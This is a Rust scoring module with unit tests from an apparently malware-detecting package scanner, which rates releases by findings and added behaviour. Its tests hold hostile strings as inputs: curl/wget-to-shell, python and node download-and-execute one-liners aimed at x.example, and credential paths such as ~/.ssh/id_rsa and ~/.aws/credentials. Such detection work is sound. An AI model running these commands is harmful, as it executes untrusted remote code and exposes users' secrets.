//! Verdicts: a score, a severity and the reasons for both, from a
//! release's findings and its changes since the previous release.
//!
//! The escalation rules are data (`rules/scoring.toml`, documented in the
//! crate's README); this module loads them and applies them:
//!
//! - each change and each finding is claimed by the first rule it matches,
//!   in file order, so that nothing counts twice;
//! - a matched rule adds its weight once and its severity to the verdict;
//! - a *weighed* finding rule instead adds each finding it claimed by its
//!   own points: the base points of the finding's severity × the rule's
//!   confidence × the factor of its reachability ([`FindingWeights`]), so
//!   that findings combine and code that nothing runs counts less (a
//!   capability there not at all); it adds no severity of its own;
//! - the severity is the highest of the matched fixed rules' and of the
//!   one the total score reaches ([`Thresholds`]); with no match, `info`
//!   and 0;
//! - reasons come best first: by weight, then by rule;
//! - change rules match added behaviour only, and only when there is a
//!   previous release: a first release is scored from its findings alone;
//! - a suppressed change or finding is claimed by its rule but does not
//!   score; the rule is listed as a reason of weight 0 and severity info,
//!   its description starting with `suppressed:`.
//!
//! A change is suppressed by the rule's id or its kind's name (`host`); a
//! finding by the rule's id, the finding's rule id or `finding`. The
//! evidence hash of a finding is that of its item
//! ([`crate::profile::FindingLite::key`]).

use paddock_proto::v1::{Change, ChangeAction, FindingCategory, Reason, Severity, Verdict};
use regex::Regex;
use serde::Deserialize;

use crate::diff::item_key;
use crate::profile::{Kind, PhaseLite, Profile};
use crate::suppress::Suppressions;

/// The version of the built-in rules, recorded in every verdict they
/// make. Equal to `version` in `rules/scoring.toml`.
pub const SCORING_VERSION: &str = "3";

/// The shipped scoring rules live beside the detection rules.
const BUILTIN: &str = include_str!("../../../rules/scoring.toml");

/// Why scoring rules could not be loaded.
#[derive(Debug, thiserror::Error)]
pub enum ScoreError {
    #[error("scoring rules are not valid toml: {0}")]
    Toml(#[from] toml::de::Error),
    #[error("scoring rule `{id}`: {reason}")]
    Rule { id: String, reason: String },
    #[error("scoring thresholds must rise from low to critical and not be negative")]
    Thresholds,
}

/// The total score at which a verdict reaches each severity.
#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Thresholds {
    pub low: f64,
    pub medium: f64,
    pub high: f64,
    pub critical: f64,
}

impl Thresholds {
    /// The severity a total score reaches.
    pub fn severity(&self, score: f64) -> Severity {
        if score >= self.critical {
            Severity::Critical
        } else if score >= self.high {
            Severity::High
        } else if score >= self.medium {
            Severity::Medium
        } else if score >= self.low {
            Severity::Low
        } else {
            Severity::Info
        }
    }
}

/// Points of one finding by its severity.
#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SeverityPoints {
    pub critical: f64,
    pub high: f64,
    pub medium: f64,
    pub low: f64,
    pub info: f64,
}

/// Factors of a finding's points by what runs the code it was found in.
#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ReachFactors {
    /// Install hooks and the files they run.
    pub install: f64,
    /// What importing or requiring the package runs.
    pub import: f64,
    /// The package's commands and executables.
    pub execute: f64,
    /// Other library code (reachable by a caller).
    pub library: f64,
    /// Tests, docs, examples, benchmarks: nothing runs them.
    pub unreached: f64,
    /// Reachability not known (a finding of an older analyzer).
    pub unknown: f64,
}

impl ReachFactors {
    fn of(&self, token: &str) -> f64 {
        match token {
            "install" => self.install,
            "import" => self.import,
            "execute" => self.execute,
            "library" => self.library,
            "unreached" => self.unreached,
            _ => self.unknown,
        }
    }

    fn valid(&self) -> bool {
        [
            self.install,
            self.import,
            self.execute,
            self.library,
            self.unreached,
            self.unknown,
        ]
        .iter()
        .all(|f| f.is_finite() && (0.0..=1.0).contains(f))
    }
}

/// How a weighed rule scores each finding (`[findings]`).
#[derive(Debug, Clone, Copy, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FindingWeights {
    pub base: SeverityPoints,
    /// Threat and signal findings.
    pub reach: ReachFactors,
    /// Capability findings: what code can do is only worth something
    /// where the code runs.
    pub capability_reach: ReachFactors,
    /// The most points all findings in code nothing runs add together:
    /// test suites and vendored benchmarks are full of threat patterns,
    /// so on their own they make a lead (medium), not an alert.
    #[serde(default = "no_cap")]
    pub unreached_cap: f64,
}

fn no_cap() -> f64 {
    f64::INFINITY
}

impl FindingWeights {
    /// The points of one finding.
    pub fn points(&self, f: &crate::profile::FindingLite) -> f64 {
        let base = match f.severity() {
            Severity::Critical => self.base.critical,
            Severity::High => self.base.high,
            Severity::Medium => self.base.medium,
            Severity::Low => self.base.low,
            Severity::Info | Severity::Unspecified => self.base.info,
        };
        let reach = match f.category() {
            FindingCategory::Capability => self.capability_reach.of(&f.reachability),
            _ => self.reach.of(&f.reachability),
        };
        base * f64::from(f.confidence.clamp(0.0, 1.0)) * reach
    }
}

/// What a rule matches.
#[derive(Debug, Clone)]
pub enum When {
    /// An added change of one of `kinds`, in one of `phases` (any when
    /// empty), whose value matches one of `value_matches` (any when
    /// empty).
    Change {
        kinds: Vec<Kind>,
        phases: Vec<PhaseLite>,
        value_matches: Vec<Regex>,
    },
    /// A finding whose rule id starts with `rule_id_prefix`, of
    /// `category`, at least `min_severity`; with `new_only`, only when the
    /// previous release has no finding of the same rule (or there is no
    /// previous release).
    Finding {
        rule_id_prefix: Option<String>,
        category: Option<FindingCategory>,
        min_severity: Severity,
        new_only: bool,
    },
}

/// One escalation rule.
#[derive(Debug, Clone)]
pub struct Rule {
    pub id: String,
    pub description: String,
    pub weight: f64,
    pub severity: Severity,
    pub when: When,
    /// Scores each claimed finding by its points ([`FindingWeights`])
    /// instead of `weight` and `severity`.
    pub weighed: bool,
}

impl Rule {
    fn source(&self) -> &'static str {
        match self.when {
            When::Change { .. } => "change",
            When::Finding { .. } => "finding",
        }
    }
}

/// What one rule matched in one assessment.
#[derive(Debug, Clone, PartialEq)]
pub struct RuleMatch {
    pub rule_id: String,
    /// The values it claimed that count.
    pub values: Vec<String>,
    /// The values it claimed that are suppressed.
    pub suppressed: Vec<String>,
    /// A weighed rule's findings that scored, best first.
    pub scored: Vec<Scored>,
}

/// One finding a weighed rule scored.
#[derive(Debug, Clone, PartialEq)]
pub struct Scored {
    pub rule_id: String,
    pub severity: Severity,
    pub points: f64,
    /// Title, reachability, confidence and the first evidence.
    pub description: String,
}

/// The escalation rules and thresholds.
#[derive(Debug, Clone)]
pub struct Scoring {
    version: String,
    thresholds: Thresholds,
    findings: FindingWeights,
    rules: Vec<Rule>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RulesFile {
    version: String,
    scoring: Thresholds,
    findings: FindingWeights,
    #[serde(rename = "rule", default)]
    rules: Vec<RuleSpec>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleSpec {
    id: String,
    description: String,
    weight: Option<f64>,
    severity: Option<String>,
    #[serde(default)]
    weighed: bool,
    when: WhenSpec,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum OneOrMany {
    One(String),
    Many(Vec<String>),
}

impl OneOrMany {
    fn into_vec(self) -> Vec<String> {
        match self {
            OneOrMany::One(s) => vec![s],
            OneOrMany::Many(v) => v,
        }
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct WhenSpec {
    source: String,
    // change
    kind: Option<OneOrMany>,
    action: Option<String>,
    phase: Option<OneOrMany>,
    value_matches: Option<Vec<String>>,
    // finding
    rule_id: Option<String>,
    category: Option<String>,
    min_severity: Option<String>,
    new_only: Option<bool>,
}

fn parse_severity(id: &str, s: &str) -> Result<Severity, ScoreError> {
    paddock_proto::ecosystem::parse_severity(s).map_err(|e| ScoreError::Rule {
        id: id.to_owned(),
        reason: e.to_string(),
    })
}

impl RuleSpec {
    fn compile(self) -> Result<Rule, ScoreError> {
        let id = self.id;
        let err = |reason: String| ScoreError::Rule {
            id: id.clone(),
            reason,
        };
        if id.trim().is_empty() {
            return Err(err("id is empty".into()));
        }
        let (weight, severity) = match (self.weighed, self.weight, &self.severity) {
            (true, None, None) => (0.0, Severity::Info),
            (true, _, _) => return Err(err(
                "a weighed rule scores each finding by [findings]: it takes no weight or severity"
                    .into(),
            )),
            (false, Some(w), Some(sev)) => (w, parse_severity(&id, sev)?),
            (false, _, _) => {
                return Err(err(
                    "a rule needs a weight and a severity (or weighed = true)".into(),
                ))
            }
        };
        if !(weight.is_finite() && weight >= 0.0) {
            return Err(err("weight must be a number of 0 or more".into()));
        }
        if self.weighed && w_source_is_change(&self.when) {
            return Err(err("only finding rules can be weighed".into()));
        }
        let w = self.when;
        let when = match w.source.as_str() {
            "change" => {
                if w.rule_id.is_some()
                    || w.category.is_some()
                    || w.min_severity.is_some()
                    || w.new_only.is_some()
                {
                    return Err(err(
                        "a change rule takes kind, action, phase and value_matches only".into(),
                    ));
                }
                match w.action.as_deref().unwrap_or("added") {
                    "added" => {}
                    "removed" => {
                        return Err(err(
                            "removed behaviour never escalates: use action = \"added\"".into(),
                        ))
                    }
                    other => return Err(err(format!("unknown action `{other}`: use \"added\""))),
                }
                let kinds = w
                    .kind
                    .ok_or_else(|| err("a change rule needs a kind".into()))?
                    .into_vec()
                    .iter()
                    .map(|k| Kind::parse(k).ok_or_else(|| err(format!("unknown kind `{k}`"))))
                    .collect::<Result<Vec<_>, _>>()?;
                if kinds.is_empty() {
                    return Err(err("a change rule needs a kind".into()));
                }
                let phases = w
                    .phase
                    .map(OneOrMany::into_vec)
                    .unwrap_or_default()
                    .iter()
                    .map(|p| PhaseLite::parse(p).ok_or_else(|| err(format!("unknown phase `{p}`"))))
                    .collect::<Result<Vec<_>, _>>()?;
                let value_matches = w
                    .value_matches
                    .unwrap_or_default()
                    .iter()
                    .map(|r| Regex::new(r).map_err(|e| err(format!("value_matches `{r}`: {e}"))))
                    .collect::<Result<Vec<_>, _>>()?;
                When::Change {
                    kinds,
                    phases,
                    value_matches,
                }
            }
            "finding" => {
                if w.kind.is_some()
                    || w.action.is_some()
                    || w.phase.is_some()
                    || w.value_matches.is_some()
                {
                    return Err(err(
                        "a finding rule takes rule_id, category, min_severity and new_only only"
                            .into(),
                    ));
                }
                let category = match w.category.as_deref() {
                    None => None,
                    Some("threat") => Some(FindingCategory::Threat),
                    Some("capability") => Some(FindingCategory::Capability),
                    Some("signal") => Some(FindingCategory::Signal),
                    Some(other) => {
                        return Err(err(format!(
                            "unknown category `{other}`: use threat, capability or signal"
                        )))
                    }
                };
                let min_severity = match &w.min_severity {
                    Some(s) => parse_severity(&id, s)?,
                    None => Severity::Unspecified,
                };
                When::Finding {
                    rule_id_prefix: w.rule_id,
                    category,
                    min_severity,
                    new_only: w.new_only.unwrap_or(false),
                }
            }
            other => {
                return Err(err(format!(
                    "unknown source `{other}`: use \"change\" or \"finding\""
                )))
            }
        };
        Ok(Rule {
            id,
            description: self.description,
            weight,
            severity,
            when,
            weighed: self.weighed,
        })
    }
}

fn w_source_is_change(w: &WhenSpec) -> bool {
    w.source == "change"
}

/// What an item is called in a reason.
fn label(value: &str, phase: PhaseLite) -> String {
    format!("{value} ({})", phase.token())
}

/// A scored finding in a reason: its title, where it is, how sure the
/// rule is, and its first evidence.
fn describe_finding(f: &crate::profile::FindingLite) -> String {
    let reach = if f.reachability.is_empty() {
        "reachability unknown"
    } else {
        f.reachability.as_str()
    };
    let mut out = format!(
        "{} ({reach}, confidence {:.2})",
        if f.title.is_empty() {
            &f.rule_id
        } else {
            &f.title
        },
        f.confidence
    );
    if !f.evidence.is_empty() {
        out.push_str(": ");
        out.push_str(&f.evidence);
    }
    out
}

/// The rule's description naming up to three matched values.
fn describe(description: &str, values: &[String]) -> String {
    const SHOWN: usize = 3;
    let mut out = format!(
        "{description}: {}",
        values
            .iter()
            .take(SHOWN)
            .cloned()
            .collect::<Vec<_>>()
            .join(", ")
    );
    if values.len() > SHOWN {
        out.push_str(&format!(" and {} more", values.len() - SHOWN));
    }
    out
}

impl Scoring {
    /// The rules shipped with Paddock.
    pub fn builtin() -> Self {
        Self::from_toml(BUILTIN).expect("the built-in scoring rules are valid (tested)")
    }

    /// Rules from TOML text (the format of `rules/scoring.toml`).
    pub fn from_toml(text: &str) -> Result<Self, ScoreError> {
        let file: RulesFile = toml::from_str(text)?;
        let t = file.scoring;
        let rising =
            0.0 <= t.low && t.low <= t.medium && t.medium <= t.high && t.high <= t.critical;
        if !rising || !t.critical.is_finite() {
            return Err(ScoreError::Thresholds);
        }
        let f = file.findings;
        let b = f.base;
        if ![b.critical, b.high, b.medium, b.low, b.info]
            .iter()
            .all(|p| p.is_finite() && *p >= 0.0)
            || !f.reach.valid()
            || !f.capability_reach.valid()
        {
            return Err(ScoreError::Rule {
                id: "[findings]".into(),
                reason: "points are numbers of 0 or more and reach factors between 0 and 1".into(),
            });
        }
        let mut rules: Vec<Rule> = Vec::with_capacity(file.rules.len());
        for spec in file.rules {
            let rule = spec.compile()?;
            if rules.iter().any(|r| r.id == rule.id) {
                return Err(ScoreError::Rule {
                    id: rule.id,
                    reason: "defined twice".into(),
                });
            }
            rules.push(rule);
        }
        Ok(Self {
            version: file.version,
            thresholds: t,
            findings: f,
            rules,
        })
    }

    /// The rules' version, recorded in verdicts.
    pub fn version(&self) -> &str {
        &self.version
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    pub fn thresholds(&self) -> Thresholds {
        self.thresholds
    }

    pub fn finding_weights(&self) -> FindingWeights {
        self.findings
    }

    /// The change rule that claims an added change, if one does: the
    /// rule it counts under in a verdict (when there is a previous
    /// release) and that a suppression names. None for a removed change.
    pub fn claim(&self, change: &Change) -> Option<&Rule> {
        if change.action() != ChangeAction::Added {
            return None;
        }
        let key = item_key(change)?;
        self.claiming(change, &key).map(|i| &self.rules[i])
    }

    /// The index of the first change rule that matches `c`.
    fn claiming(&self, c: &Change, key: &crate::profile::ItemKey) -> Option<usize> {
        self.rules.iter().position(|r| match &r.when {
            When::Change {
                kinds,
                phases,
                value_matches,
            } => {
                kinds.contains(&key.kind)
                    && (phases.is_empty() || phases.contains(&key.phase))
                    && (value_matches.is_empty()
                        || value_matches.iter().any(|re| re.is_match(&c.value)))
            }
            When::Finding { .. } => false,
        })
    }

    /// Which rules match, and what each claimed (see the module
    /// documentation). Rules that claimed nothing are left out.
    pub fn matches(
        &self,
        next: &Profile,
        previous: Option<&Profile>,
        changes: &[Change],
        suppressions: &Suppressions,
    ) -> Vec<RuleMatch> {
        let eco = next.package.ecosystem.as_str();
        let package = next.package.name.as_str();
        let mut out: Vec<RuleMatch> = self
            .rules
            .iter()
            .map(|r| RuleMatch {
                rule_id: r.id.clone(),
                values: Vec::new(),
                suppressed: Vec::new(),
                scored: Vec::new(),
            })
            .collect();

        // Changes: added ones only, and only against a previous release.
        if previous.is_some() {
            for c in changes.iter().filter(|c| c.action() == ChangeAction::Added) {
                let Some(key) = item_key(c) else { continue };
                let Some(i) = self.claiming(c, &key) else {
                    continue;
                };
                let rule = &self.rules[i];
                let hash = &c.evidence_hash;
                let suppressed = suppressions.suppresses(eco, package, &rule.id, hash)
                    || suppressions.suppresses(eco, package, key.kind.token(), hash);
                let m = &mut out[i];
                let l = label(&c.value, key.phase);
                if suppressed {
                    m.suppressed.push(l);
                } else {
                    m.values.push(l);
                }
            }
        }

        let mut unreached_points = 0.0;
        for f in &next.findings {
            let claimed = self.rules.iter().position(|r| match &r.when {
                When::Finding {
                    rule_id_prefix,
                    category,
                    min_severity,
                    new_only,
                } => {
                    rule_id_prefix
                        .as_ref()
                        .is_none_or(|p| f.rule_id.starts_with(p.as_str()))
                        && category.is_none_or(|c| f.category() == c)
                        && f.severity() >= *min_severity
                        && !(*new_only && previous.is_some_and(|p| p.has_finding_rule(&f.rule_id)))
                }
                When::Change { .. } => false,
            });
            let Some(i) = claimed else { continue };
            let rule = &self.rules[i];
            let hash = f.key().evidence_hash();
            let suppressed = [rule.id.as_str(), f.rule_id.as_str(), Kind::Finding.token()]
                .iter()
                .any(|code| suppressions.suppresses(eco, package, code, &hash));
            let m = &mut out[i];
            let l = label(&f.rule_id, f.phase);
            if suppressed {
                m.suppressed.push(l);
            } else if rule.weighed {
                let mut points = self.findings.points(f);
                if f.reachability == "unreached" {
                    points = points
                        .min(self.findings.unreached_cap - unreached_points)
                        .max(0.0);
                    unreached_points += points;
                }
                if points > 0.0 {
                    m.values.push(l);
                    m.scored.push(Scored {
                        rule_id: f.rule_id.clone(),
                        severity: f.severity(),
                        points,
                        description: describe_finding(f),
                    });
                }
            } else {
                m.values.push(l);
            }
        }
        for m in &mut out {
            m.scored.sort_by(|a, b| {
                b.points
                    .total_cmp(&a.points)
                    .then_with(|| a.rule_id.cmp(&b.rule_id))
            });
        }
        out.retain(|m| !m.values.is_empty() || !m.suppressed.is_empty());
        out
    }

    /// The verdict on `next`, compared with `previous` through `changes`
    /// (from [`crate::diff::diff`]). `created_at` is left for the
    /// publisher to stamp.
    pub fn verdict(
        &self,
        next: &Profile,
        previous: Option<&Profile>,
        changes: &[Change],
        suppressions: &Suppressions,
    ) -> Verdict {
        let mut score = 0.0;
        let mut severity = Severity::Info;
        let mut reasons = Vec::new();
        for m in self.matches(next, previous, changes, suppressions) {
            let rule = self
                .rules
                .iter()
                .find(|r| r.id == m.rule_id)
                .expect("matches come from the rules");
            if rule.weighed && !m.scored.is_empty() {
                for f in &m.scored {
                    score += f.points;
                    reasons.push(Reason {
                        source: rule.source().into(),
                        code: f.rule_id.clone(),
                        description: f.description.clone(),
                        weight: f.points,
                        severity: f.severity.into(),
                    });
                }
            } else if !m.values.is_empty() && !rule.weighed {
                score += rule.weight;
                severity = severity.max(rule.severity);
                reasons.push(Reason {
                    source: rule.source().into(),
                    code: rule.id.clone(),
                    description: describe(&rule.description, &m.values),
                    weight: rule.weight,
                    severity: rule.severity.into(),
                });
            } else {
                reasons.push(Reason {
                    source: rule.source().into(),
                    code: rule.id.clone(),
                    description: format!(
                        "suppressed: {}",
                        describe(&rule.description, &m.suppressed)
                    ),
                    weight: 0.0,
                    severity: Severity::Info.into(),
                });
            }
        }
        severity = severity.max(self.thresholds.severity(score));
        // Best first: what decided the verdict leads.
        reasons.sort_by(|a, b| b.weight.total_cmp(&a.weight));
        Verdict {
            package: Some(next.package.to_proto()),
            created_at: None,
            severity: severity.into(),
            score,
            reasons,
            previous_version: previous
                .map(|p| p.package.version.clone())
                .unwrap_or_default(),
            has_static: next.has_static,
            has_dynamic: next.has_dynamic,
            run_ids: next.run_ids.iter().cloned().collect(),
            scoring_version: self.version.clone(),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::diff::diff;
    use crate::profile::{FindingLite, PackageRefLite};
    use crate::suppress::Suppression;

    fn release(name: &str, version: &str) -> Profile {
        let mut p = Profile::new(PackageRefLite {
            ecosystem: "npm".into(),
            name: name.into(),
            version: version.into(),
        });
        p.has_static = true;
        p.has_dynamic = true;
        p.run_ids.insert(format!("run-{version}"));
        // What an ordinary release of it does.
        p.insert(Kind::Dependency, PhaseLite::Static, "debug", "debug ^4");
        p.insert(
            Kind::Capability,
            PhaseLite::Static,
            "capability.network",
            "",
        );
        p.add_finding(finding(
            "capability.network",
            "info",
            "capability",
            PhaseLite::Static,
        ));
        p
    }

    fn previous() -> Profile {
        release("x", "1.0.0")
    }

    fn next() -> Profile {
        release("x", "1.0.1")
    }

    fn finding(rule: &str, severity: &str, category: &str, phase: PhaseLite) -> FindingLite {
        FindingLite {
            rule_id: rule.into(),
            severity: severity.into(),
            category: category.into(),
            title: String::new(),
            evidence: String::new(),
            phase,
            confidence: 1.0,
            reachability: String::new(),
        }
    }

    fn with(kind: Kind, phase: PhaseLite, value: &str) -> Profile {
        let mut p = next();
        p.insert(kind, phase, value, value);
        p
    }

    fn with_finding(rule: &str, severity: &str, phase: PhaseLite) -> Profile {
        let mut p = next();
        p.add_finding(finding(rule, severity, "threat", phase));
        p
    }

    fn verdict_with(prev: Option<&Profile>, next: &Profile, s: &Suppressions) -> Verdict {
        let changes = prev.map(|p| diff(p, next)).unwrap_or_default();
        Scoring::builtin().verdict(next, prev, &changes, s)
    }

    fn verdict(prev: Option<&Profile>, next: &Profile) -> Verdict {
        verdict_with(prev, next, &Suppressions::default())
    }

    fn after(next: &Profile) -> Verdict {
        verdict(Some(&previous()), next)
    }

    /// The rules that scored.
    fn codes(v: &Verdict) -> Vec<&str> {
        v.reasons
            .iter()
            .filter(|r| r.weight > 0.0)
            .map(|r| r.code.as_str())
            .collect()
    }

    type Scenario = Box<dyn Fn() -> Verdict>;

    /// Every built-in rule, with a scenario that must match exactly that
    /// rule (and nothing else).
    fn scenarios() -> Vec<(&'static str, Scenario)> {
        use Kind::*;
        use PhaseLite::*;
        vec![
            (
                "exfiltration",
                Box::new(|| {
                    after(&with_finding(
                        "exfiltration.bait-in-traffic",
                        "critical",
                        Install,
                    ))
                }),
            ),
            (
                "download-and-execute",
                Box::new(|| after(&with(Command, Install, "exec-written-file /tmp/p.sh"))),
            ),
            (
                "install-hook-added",
                Box::new(|| {
                    after(&with(
                        InstallHook,
                        Static,
                        "npm-lifecycle postinstall: node i.js",
                    ))
                }),
            ),
            (
                "credential-read-added",
                Box::new(|| after(&with(FileRead, Execute, "~/.aws/credentials"))),
            ),
            (
                "install-network-added",
                Box::new(|| after(&with(Host, Install, "x.example:443"))),
            ),
            (
                "runtime-network-added",
                Box::new(|| after(&with(DnsName, Import, "x.example"))),
            ),
            (
                "findings",
                Box::new(|| after(&with_finding("threat.obfuscated-eval", "high", Static))),
            ),
            (
                "obfuscation-added",
                Box::new(|| after(&with(Obfuscation, Static, "package/x.js minified"))),
            ),
            (
                "bundled-binary-added",
                Box::new(|| after(&with(BundledBinary, Static, "package/bin/helper"))),
            ),
            (
                "command-added",
                Box::new(|| after(&with(Command, Install, "node build.js"))),
            ),
            (
                "file-write-added",
                Box::new(|| after(&with(FileWrite, Install, "~/.config/x/state"))),
            ),
            (
                "file-delete-added",
                Box::new(|| after(&with(FileDelete, Execute, "~/.x"))),
            ),
            (
                "capability-added",
                Box::new(|| after(&with(Capability, Static, "capability.process-spawn"))),
            ),
            (
                "dependency-added",
                Box::new(|| after(&with(Dependency, Static, "lodash"))),
            ),
        ]
    }

    #[test]
    fn every_builtin_rule_is_exercised_by_a_scenario_matching_only_it() {
        let scoring = Scoring::builtin();
        let rule_ids: BTreeSet<&str> = scoring.rules().iter().map(|r| r.id.as_str()).collect();
        let scenarios = scenarios();
        let covered: BTreeSet<&str> = scenarios.iter().map(|(id, _)| *id).collect();
        assert_eq!(
            rule_ids, covered,
            "every rule needs a scenario, every scenario a rule"
        );
        for (id, scenario) in scenarios {
            let v = scenario();
            let rule = scoring.rules().iter().find(|r| r.id == id).unwrap();
            // A weighed rule's reasons are its findings, by their rule ids.
            let want = if rule.weighed {
                "threat.obfuscated-eval"
            } else {
                id
            };
            assert_eq!(codes(&v), [want], "scenario for {id}: {:?}", v.reasons);
            if rule.weighed {
                // One high finding, confidence 1, reachability unknown.
                assert_eq!(v.score, 60.0, "{id}");
            } else {
                assert_eq!(v.score, rule.weight, "{id}");
                assert!(v.severity() >= rule.severity, "{id}");
            }
        }
    }

    #[test]
    fn the_builtin_rules_load_and_carry_their_version() {
        let s = Scoring::builtin();
        assert_eq!(s.version(), SCORING_VERSION);
        assert_eq!(s.thresholds().severity(95.0), Severity::Critical);
        assert_eq!(s.thresholds().severity(9.9), Severity::Info);
        let v = after(&next());
        assert_eq!(v.scoring_version, SCORING_VERSION);
        assert_eq!(v.previous_version, "1.0.0");
        assert_eq!(v.package.as_ref().unwrap().version, "1.0.1");
        assert_eq!(v.run_ids, ["run-1.0.1"]);
        assert!(v.has_static && v.has_dynamic);
    }

    #[test]
    fn no_change_is_info_with_score_zero() {
        let v = after(&next());
        assert_eq!((v.severity(), v.score), (Severity::Info, 0.0));
        assert!(v.reasons.is_empty());
    }

    #[test]
    fn a_first_install_hook_is_high() {
        let v = after(&with(
            Kind::InstallHook,
            PhaseLite::Static,
            "npm-lifecycle postinstall: node i.js",
        ));
        assert_eq!(v.severity(), Severity::High);
        assert!(
            v.reasons[0].description.contains("postinstall"),
            "{:?}",
            v.reasons
        );
    }

    #[test]
    fn new_network_at_install_is_high_for_every_kind_of_traffic() {
        for (kind, value) in [
            (Kind::Host, "x.example:80"),
            (Kind::DnsName, "x.example"),
            (Kind::Host, "http GET x.example/p.sh"),
            (Kind::Host, "tls x.example:443"),
            (Kind::Host, "udp 198.51.100.7:4444"),
        ] {
            let v = after(&with(kind, PhaseLite::Install, value));
            assert_eq!(v.severity(), Severity::High, "{value}");
            assert_eq!(codes(&v), ["install-network-added"]);
        }
    }

    #[test]
    fn new_network_at_import_or_execute_is_medium() {
        for phase in [PhaseLite::Import, PhaseLite::Execute] {
            let v = after(&with(Kind::Host, phase, "x.example:443"));
            assert_eq!(v.severity(), Severity::Medium, "{phase:?}");
            assert_eq!(codes(&v), ["runtime-network-added"]);
        }
    }

    #[test]
    fn new_reads_of_credentials_or_baits_are_high() {
        for value in [
            "~/.ssh/id_rsa",
            "/proc/<pid>/environ",
            "bait file:~/.ssh/id_rsa",
            "bait env:NPM_TOKEN passed",
        ] {
            let v = after(&with(Kind::FileRead, PhaseLite::Install, value));
            assert_eq!(v.severity(), Severity::High, "{value}");
        }
    }

    #[test]
    fn download_and_execute_is_critical() {
        for value in [
            "exec-written-file /tmp/p.sh",
            "sh -c 'curl -s http://x.example/p.sh | sh'",
            "sh -c 'wget -O- http://x.example/p | sudo bash'",
            "bash -c 'curl -fsSL x.example/i | python3 -'",
            "sh -c 'curl -o /tmp/p http://x.example/p && chmod +x /tmp/p && /tmp/p'",
            "sh -c 'wget http://x.example/p.sh; sh p.sh'",
            "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x.example\").read())'",
            "node -e 'require(\"https\").get(\"https://x.example\",r=>r.on(\"data\",d=>eval(d)))'",
        ] {
            let v = after(&with(Kind::Command, PhaseLite::Install, value));
            assert_eq!(v.severity(), Severity::Critical, "{value}");
            assert_eq!(codes(&v), ["download-and-execute"], "{value}");
        }
        // An ordinary download is a new command, nothing more.
        let v = after(&with(
            Kind::Command,
            PhaseLite::Install,
            "curl -o out.tgz https://x.example/a.tgz",
        ));
        assert_eq!(codes(&v), ["command-added"]);
        assert_eq!(v.severity(), Severity::Low);
    }

    #[test]
    fn exfiltration_is_critical_even_for_a_first_release() {
        let next = with_finding(
            "exfiltration.bait-in-traffic",
            "critical",
            PhaseLite::Install,
        );
        for prev in [None, Some(&next)] {
            let v = verdict(prev, &next);
            assert_eq!(v.severity(), Severity::Critical);
            assert_eq!(codes(&v), ["exfiltration"]);
        }
    }

    #[test]
    fn a_new_critical_threat_finding_is_critical_and_an_old_one_does_not_count() {
        let next = with_finding("threat.reverse-shell", "critical", PhaseLite::Static);
        assert_eq!(after(&next).severity(), Severity::Critical);
        assert_eq!(verdict(None, &next).severity(), Severity::Critical);
        let v = verdict(Some(&next), &next);
        assert_eq!((v.severity(), v.score), (Severity::Info, 0.0));
    }

    fn weighed(
        rule: &str,
        severity: &str,
        category: &str,
        confidence: f32,
        reach: &str,
    ) -> FindingLite {
        let mut f = finding(rule, severity, category, PhaseLite::Static);
        f.confidence = confidence;
        f.reachability = reach.into();
        f.title = format!("{rule} title");
        f.evidence = format!("lib/{rule}.js: snippet");
        f
    }

    fn first_release_with(findings: Vec<FindingLite>) -> Verdict {
        let mut next = release("x", "1.0.0");
        next.findings.clear();
        for f in findings {
            next.add_finding(f);
        }
        verdict(None, &next)
    }

    #[test]
    fn one_confident_high_threat_where_code_runs_is_high_alone() {
        for reach in ["install", "import", "execute", "library"] {
            let v = first_release_with(vec![weighed("threat.a", "high", "threat", 0.9, reach)]);
            assert_eq!(v.severity(), Severity::High, "{reach}: {}", v.score);
            assert!((v.score - 54.0).abs() < 1e-4, "{}", v.score);
        }
    }

    #[test]
    fn a_weak_high_threat_needs_company_and_findings_add_up() {
        let weak = weighed("threat.a", "high", "threat", 0.6, "import");
        let v = first_release_with(vec![weak.clone()]);
        assert_eq!(v.severity(), Severity::Medium, "{}", v.score);
        let medium = weighed("threat.b", "medium", "threat", 0.8, "import");
        let v = first_release_with(vec![weak, medium]);
        // 36 + 19.2: the two together reach high; neither alone does.
        assert_eq!(v.severity(), Severity::High, "{}", v.score);
        assert_eq!(codes(&v), ["threat.a", "threat.b"], "best first");
    }

    #[test]
    fn the_severity_is_weighed_not_the_largest_finding() {
        // A critical rule at low confidence is not a critical verdict.
        let v = first_release_with(vec![weighed(
            "threat.a", "critical", "threat", 0.3, "import",
        )]);
        assert_eq!(v.severity(), Severity::Medium, "{}", v.score);
    }

    #[test]
    fn a_threat_nothing_runs_still_counts_but_less() {
        let v = first_release_with(vec![weighed(
            "threat.a",
            "critical",
            "threat",
            0.9,
            "unreached",
        )]);
        // 100 × 0.9 × 0.4 = 36, held to the cap of what nothing runs.
        assert!((v.score - 30.0).abs() < 1e-4, "{}", v.score);
        assert_eq!(v.severity(), Severity::Medium);
        let v = first_release_with(vec![weighed(
            "threat.a",
            "high",
            "threat",
            0.85,
            "unreached",
        )]);
        assert_eq!(v.severity(), Severity::Low, "{}", v.score);
    }

    #[test]
    fn code_nothing_runs_adds_at_most_its_cap() {
        // Two critical threats in a vendored test suite: a lead, not an
        // alert.
        let two = vec![
            weighed("threat.a", "critical", "threat", 0.9, "unreached"),
            weighed("threat.b", "high", "threat", 0.85, "unreached"),
        ];
        let v = first_release_with(two.clone());
        assert!((v.score - 30.0).abs() < 1e-4, "{}", v.score);
        assert_eq!(v.severity(), Severity::Medium);
        // What runs still counts in full beside it.
        let mut more = two;
        more.push(weighed("threat.c", "high", "threat", 0.85, "import"));
        let v = first_release_with(more);
        assert!((v.score - 81.0).abs() < 1e-4, "{}", v.score);
        assert_eq!(v.severity(), Severity::High);
    }

